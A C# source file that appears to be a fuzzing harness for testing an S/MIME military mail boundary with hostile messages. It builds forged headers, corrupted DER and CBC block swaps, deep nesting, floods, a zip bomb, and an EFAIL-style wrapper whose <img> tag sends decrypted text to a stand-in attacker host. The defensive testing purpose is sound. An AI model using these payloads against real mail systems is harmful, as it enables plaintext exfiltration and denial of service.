using System.Buffers;
using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Text.RegularExpressions;
using MilSwitch.Smime.Cms.Enveloped;
using MilSwitch.Smime.Headers;
using MilSwitch.Smime.Making;

namespace MilSwitch.Integration.Boundaries;

/// <summary>What one hostile client sends.</summary>
/// <param name="From">Empty: the null reverse path.</param>
/// <param name="To">With parameters.</param>
/// <param name="Parameters">Of MAIL.</param>
/// <param name="Content">Dot-stuffed.</param>
internal sealed record HostileSubmission(string From, IReadOnlyList<string> To, string Parameters, byte[] Content);

/// <summary>
/// Messages that somebody made, or changed on the way, so that a boundary would believe, open or let through what it must not:
/// sound ones and those of others, changed once or a few times in the ways of attackers. What is changed, and how, follows from
/// the number of a message alone; keys are new in each run.
/// </summary>
internal sealed partial class HostileMail
{
    /// <summary>Beginning of the body of every message of ours; what was encrypted must not be told by anybody.</summary>
    public const string Secret = "Attack at dawn, order ";

    private const string Alice = "Alice <" + Border.Sender + ">";

    private static readonly string[] Fields =
    [
        "From: Eve <eve@evil.test>", "From: general@red.test", "Sender: eve@evil.test", "To: general@blue.test", "Bcc: general@blue.test", "Subject: retreat", "Content-Type: text/html",
        "Content-Type: multipart/mixed; boundary=x", "Content-Transfer-Encoding: 8bit", "Content-Transfer-Encoding: x-uuencode", "MIME-Version: 2.0", "SIO-Label: marking=\"PUBLIC\"",
        "SIO-Label: marking=\"SECRET\"; type=\":ess\"; label=\"MQ==\"", "MMHS-Primary-Precedence: 5 (override)", "MT-Priority: 9", "MMHS-Message-Type: 1 (exercise)",
        "Authentication-Results: gate.red.test; smime=pass", "X-MilSwitch-Released: yes", "Resent-From: eve@evil.test", "HP-Outer: Subject: other", "Date: Fri, 27 Nov 2020 10:00:00 +0000",
        "Received: from x by gate.red.test; Fri, 27 Nov 2026 10:00:00 +0000", "Reply-To: eve@evil.test", "Disposition-Notification-To: eve@evil.test", "Message-ID: <other@red.test>",
    ];

    private static readonly (string From, string To)[] Words =
    [
        ("multipart/signed", "multipart/mixed"), ("enveloped-data", "signed-data"), ("signed-data", "enveloped-data"), ("authEnveloped-data", "enveloped-data"), ("sha-256", "md5"),
        ("application/pkcs7-signature", "application/pgp-signature"), ("base64", "quoted-printable"), ("base64", "7bit"), ("application/pkcs7-mime", "application/octet-stream"), ("boundary=", "boundary*0="),
        ("boundary=\"", "boundary=\"x\"; boundary=\""), ("us-ascii", "utf-7"), ("text/plain", "text/html"), ("text/plain", "message/partial; id=a; number=1; total=2"), ("text/plain", "message/external-body; access-type=URL"),
        ("hp=\"clear\"", "hp=\"cipher\""), ("hp=\"cipher\"", "hp=\"clear\""), ("dawn", "dusk"), ("bob@blue.test", "general@blue.test"), ("alice@red.test", "eve@red.test"), ("alice@red.test", "alice@red.test.evil.test"),
        ("From: Alice", "From: \"general@red.test\""), ("\r\n\r\n", "\r\n \r\n"), ("Content-Type:", "Content-Type :"), ("order", "ordre"),
    ];

    private readonly string[] ours;
    private readonly string[] others;

    private HostileMail(string[] ours, string[] others) => (this.ours, this.others) = (ours, others);

    /// <summary>The bodies that may arrive: signed by alice, with a label that may cross, and of a kind that is let through.</summary>
    public required IReadOnlyList<string> MayArrive { get; init; }

    /// <summary>The bodies of those whose header nobody protected: what stands in it is anybody's.</summary>
    public required IReadOnlyList<string> Bare { get; init; }

    /// <summary>The bodies that came encrypted.</summary>
    public required IReadOnlyList<string> Hidden { get; init; }

    /// <param name="border">Whom the boundary believes.</param>
    /// <param name="stranger">Whom it does not.</param>
    /// <param name="others">Messages that others made, with CRLF.</param>
    public static async Task<HostileMail> MakeAsync(Border border, Border stranger, IEnumerable<byte[]> others)
    {
        var all = new List<string>();
        var (arrive, hidden, bare) = (new List<string>(), new List<string>(), new List<string>());
        var sign = border.Signature();
        var seal = border.Encryption();
        var cbc = border.Encryption(ContentCipherChoice.Aes256Cbc);
        foreach (var fields in (string[])["", "MMHS-Primary-Precedence: 0 (deferred)\r\n", "Cc: Carol <carol@blue.test>\r\n"])
        {
            await AddAsync(true, false, m => MessageProtector.SignAsync(m, sign));
            await AddAsync(true, false, m => MessageProtector.SignAsync(m, sign with { Format = SignatureFormat.Opaque }));
            await AddAsync(true, false, m => MessageProtector.SignAsync(m, sign with { HeaderProtection = ProtectionScheme.None }));
            bare.Add(arrive[^1]);
            await AddAsync(true, true, m => MessageProtector.SignAndEncryptAsync(m, sign, seal));
            await AddAsync(true, true, m => MessageProtector.SignAndEncryptAsync(m, sign, seal with { HeaderPolicy = HeaderConfidentialityPolicy.Shy }));
            await AddAsync(true, true, m => MessageProtector.SignAndEncryptAsync(m, sign, cbc));
            await AddAsync(true, true, m => MessageProtector.WrapAsync(m, sign, seal, sign));
            await AddAsync(false, true, m => MessageProtector.EncryptAsync(m, seal));
            await AddAsync(false, true, m => MessageProtector.EncryptAsync(m, cbc));
            await AddAsync(false, false, m => MessageProtector.SignAsync(m, border.Signature(classification: 4)));
            await AddAsync(false, true, m => MessageProtector.SignAndEncryptAsync(m, border.Signature(classification: 4), seal));
            await AddAsync(false, false, m => MessageProtector.SignAsync(m, border.Signature(classification: null)));
            await AddAsync(false, true, m => MessageProtector.SignAndEncryptAsync(m, stranger.Signature(), seal));
            await AddAsync(false, false, m => MessageProtector.SignAsync(m, stranger.Signature()));
            await AddAsync(false, false, m => ValueTask.FromResult(new ReadOnlySequence<byte>(m)));

            async Task AddAsync(bool mayArrive, bool isHidden, Func<ReadOnlyMemory<byte>, ValueTask<ReadOnlySequence<byte>>> protect)
            {
                var body = string.Create(CultureInfo.InvariantCulture, $"{Secret}{all.Count:000}.\r\n");
                all.Add(Encoding.Latin1.GetString((await protect(Border.Compose(string.Create(CultureInfo.InvariantCulture, $"order {all.Count:000}"), body, fields))).ToArray()));
                if (mayArrive) arrive.Add(body);
                if (isHidden) hidden.Add(body);
            }
        }

        return new HostileMail([.. all], [.. others.Select(Encoding.Latin1.GetString)]) { MayArrive = arrive, Bare = bare, Hidden = hidden };
    }

    /// <param name="number">Of the message.</param>
    public HostileSubmission this[int number]
    {
        get
        {
            var random = new Random(number);
            var text = Sound(random);
            for (var rounds = random.Next(1, 4); rounds > 0; rounds--) text = Change(text, random);
            var from = random.Next(20) switch { 0 => "", 1 => "eve@evil.test", _ => Border.Sender };
            string[] to = random.Next(20) switch { 0 => ["general@blue.test"], 1 => [Border.Recipient, "general@blue.test"], 2 => [Border.Recipient, "carol@blue.test"], _ => [Border.Recipient] };
            var priority = random.Next(6) switch { 0 => " MT-PRIORITY=6", 1 => " MT-PRIORITY=9", 2 => " MT-PRIORITY=-4", _ => "" };
            return new HostileSubmission(from, [.. to.Select(t => $"<{t}> NOTIFY=SUCCESS,FAILURE,DELAY")], "RET=FULL" + priority, Stuff(text));
        }
    }

    private string Change(string text, Random random) => random.Next(16) switch
    {
        0 => Octets(text, random),
        1 => Remove(text, random),
        2 => Repeat(text, random),
        3 or 4 => Fields[random.Next(Fields.Length)] + "\r\n" + text,
        5 or 6 or 7 => Word(text, random),
        8 => Around(text, random),
        9 => text[..random.Next(text.Length)] + "\r\n",
        10 => Header(text) + Rest(Sound(random)),
        11 or 12 or 13 => Der(text, random),
        14 => Nested(text, random),
        _ => Bomb(text, random),
    };

    // Without those of others, which may not be at hand, all are ours.
    private string Sound(Random random) => random.Next(4) is 0 && others.Length > 0 ? others[random.Next(others.Length)] : ours[random.Next(ours.Length)];

    private static string Octets(string text, Random random)
    {
        var octets = text.ToCharArray();
        for (var count = random.Next(1, 6); count > 0; count--) octets[random.Next(octets.Length)] = random.Next(40) is 0 ? "\r\n\0"[random.Next(3)] : (char)random.Next(0x20, 0x100);
        return new string(octets);
    }

    private static string Remove(string text, Random random)
    {
        var lines = text.Split("\r\n").ToList();
        lines.RemoveAt(random.Next(lines.Count));
        return string.Join("\r\n", lines) + "\r\n";
    }

    private static string Repeat(string text, Random random)
    {
        var lines = text.Split("\r\n").ToList();
        lines.Insert(random.Next(lines.Count), lines[random.Next(lines.Count)]);
        return string.Join("\r\n", lines);
    }

    private static string Word(string text, Random random)
    {
        var start = random.Next(Words.Length);
        for (var i = 0; i < Words.Length; i++)
        {
            var (from, to) = Words[(start + i) % Words.Length];
            if (text.IndexOf(from, StringComparison.Ordinal) is >= 0 and var at) return text[..at] + to + text[(at + from.Length)..];
        }

        return text + "\r\n";
    }

    // The ciphertext or the signed text between parts that would send it away (EFAIL).
    private static string Around(string text, Random random)
    {
        var header = Header(text);
        var own = FieldsOfEntity().Matches(header).Select(m => m.Value).ToArray();
        var outer = FieldsOfEntity().Replace(header, "");
        var entity = string.Concat(own) + "\r\n" + Rest(text);
        var (before, after) = ("--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/?\r\n", "\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n");
        return random.Next(3) switch
        {
            0 => $"{outer}Content-Type: multipart/mixed; boundary=m\r\n\r\n{before}--m\r\n{entity}{after}--m--\r\n",
            1 => $"{outer}Content-Type: multipart/alternative; boundary=m\r\n\r\n--m\r\n\r\nother text\r\n--m\r\n{entity}\r\n--m--\r\n",
            _ => $"{outer}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n{entity}\r\n--m--\r\n{entity}",
        };
    }

    // The object itself: lengths, types, parts that are there twice or no more.
    private static string Der(string text, Random random)
    {
        if (Base64().Matches(text) is not { Count: > 0 } blocks) return Octets(text, random);
        var block = blocks[random.Next(blocks.Count)];
        byte[] octets;
        try
        {
            octets = Convert.FromBase64String(block.Value);
        }
        catch (FormatException)
        {
            return Octets(text, random);
        }

        if (octets.Length < 64) return Octets(text, random);
        var (at, length) = (random.Next(octets.Length - 32), random.Next(1, 32));
        byte[] changed = random.Next(7) switch
        {
            0 => [.. octets[..at], .. octets[(at + length)..]],
            1 => [.. octets[..at], .. octets[at..(at + length)], .. octets[at..]],
            2 => [.. octets[..at], .. Enumerable.Repeat((byte[])[0x30, 0x80], random.Next(1, 2_000)).SelectMany(b => b), .. octets[at..]],
            3 => [.. octets[..^random.Next(1, octets.Length / 2)]],
            // CBC by the blocks: an exchange that decrypts to another text.
            4 => [.. octets[..^32], .. octets[^16..], .. octets[^32..^16]],
            _ => Flipped(),
        };
        return text[..block.Index] + Convert.ToBase64String(changed, Base64FormattingOptions.InsertLineBreaks) + "\r\n" + text[(block.Index + block.Length)..];

        byte[] Flipped()
        {
            for (var count = random.Next(1, 4); count > 0; count--) octets[random.Next(octets.Length)] ^= (byte)(1 << random.Next(8));
            return octets;
        }
    }

    private static string Nested(string text, Random random)
    {
        var head = $"From: {Alice}\r\nTo: {Border.Recipient}\r\nSubject: forwarded\r\nMIME-Version: 1.0\r\n";
        return head + string.Concat(Enumerable.Repeat("Content-Type: message/rfc822\r\n\r\n", random.Next(1, 30))) + text;
    }

    private static string Bomb(string text, Random random)
    {
        switch (random.Next(24))
        {
            case 0:
                return Header(text) + "X-Fill: " + string.Concat(Enumerable.Repeat(new string('x', 900) + "\r\n ", 200)) + "\r\n" + Rest(text);
            case 1:
                return $"From: {Alice}\r\nMIME-Version: 1.0\r\n" + string.Concat(Enumerable.Range(0, 400).Select(i => $"Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n"));
            case 2:
                return $"From: {Alice}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + string.Concat(Enumerable.Repeat("--b\r\n\r\nx\r\n", 3_000)) + "--b--\r\n";
            case 3:
                return $"From: {Alice}\r\nTo: {Border.Recipient}\r\nMIME-Version: 1.0\r\nContent-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{ZipBomb.Value}\r\n";
            default:
                return string.Concat(Enumerable.Repeat("Received: from a by b; Fri, 27 Nov 2026 10:00:00 +0000\r\n", random.Next(1, 80))) + text;
        }
    }

    private static Lazy<string> ZipBomb { get; } = new(() =>
    {
        using var memory = new MemoryStream();
        using (var archive = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = archive.CreateEntry("zeros", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1 << 20];
            for (var i = 0; i < 300; i++) entry.Write(zeros);
        }

        return Convert.ToBase64String(memory.ToArray(), Base64FormattingOptions.InsertLineBreaks);
    });

    /// <summary>A body that opens to hundreds of megabytes, in base64.</summary>
    public static string Bombed => ZipBomb.Value;

    private static string Header(string text) => text.IndexOf("\r\n\r\n", StringComparison.Ordinal) is >= 0 and var end ? text[..(end + 2)] : text;

    private static string Rest(string text) => text.IndexOf("\r\n\r\n", StringComparison.Ordinal) is >= 0 and var end ? text[(end + 2)..] : "\r\n";

    /// <summary>As DATA carries it (RFC 5321 §4.5.2).</summary>
    public static byte[] Stuff(string text)
    {
        if (text.StartsWith('.')) text = "." + text;
        text = text.Replace("\r\n.", "\r\n..", StringComparison.Ordinal);
        return Encoding.Latin1.GetBytes(text.EndsWith("\r\n", StringComparison.Ordinal) ? text : text + "\r\n");
    }

    [GeneratedRegex("(?:[A-Za-z0-9+/]{60,76}\r\n)+[A-Za-z0-9+/=]*", RegexOptions.CultureInvariant)]
    private static partial Regex Base64();

    [GeneratedRegex("^(?:Content-[A-Za-z-]+|MIME-Version):.*\r\n(?:[ \t].*\r\n)*", RegexOptions.Multiline | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex FieldsOfEntity();
}
